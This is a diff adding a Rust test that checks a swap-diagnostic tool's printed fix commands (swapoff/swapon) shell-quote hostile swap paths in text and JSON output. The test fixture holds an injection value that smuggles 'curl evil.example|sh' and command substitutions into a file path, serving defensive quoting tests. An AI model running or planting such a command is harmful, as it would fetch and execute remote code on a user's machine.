@@ -315,3 +315,44 @@ fn unreadable_zram_leaves_its_cost_unknown() {
     // What doesn't depend on zram stays known.
     assert!(j["capacity"]["zswap_resident_max_bytes"].is_u64());
 }
+
+/// A swap path holding shell syntax (tests/fixtures/hostile-paths): the printed fix quotes it as
+/// one word, in text and in JSON.
+#[test]
+fn fix_commands_quote_hostile_swap_paths() {
+    let path = "/var/swap;curl${IFS}evil.example|sh;# $(id)`id`'q\"";
+    let quoted = shlex::try_quote(path).unwrap().into_owned();
+    let text = once_text("hostile-paths");
+    // The text wraps the fix over lines; read it back as one run of words.
+    let flat = text.split_whitespace().collect::<Vec<_>>().join(" ");
+    let flat_quoted = quoted.split_whitespace().collect::<Vec<_>>().join(" ");
+    assert!(
+        flat.contains(&format!(
+            "sudo swapoff {flat_quoted} && sudo swapon -p 1 {flat_quoted}"
+        )),
+        "{text}"
+    );
+    assert!(!flat.contains("swapoff /var/swap;"), "{text}");
+
+    let json = once_json("hostile-paths");
+    let fix = json["diagnostics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["id"] == "swap-priorities")
+        .and_then(|f| f["fix"].as_str())
+        .unwrap()
+        .to_string();
+    let cmd = fix.split("Give them one priority: `").nth(1).unwrap();
+    let cmd = &cmd[..cmd.find("`; to keep it").unwrap()];
+    let words = shlex::split(cmd).unwrap();
+    assert_eq!(
+        words.iter().filter(|w| w.as_str() == path).count(),
+        2,
+        "{words:?}"
+    );
+    assert!(
+        words.iter().all(|w| w == path || !w.contains("evil")),
+        "{words:?}"
+    );
+}
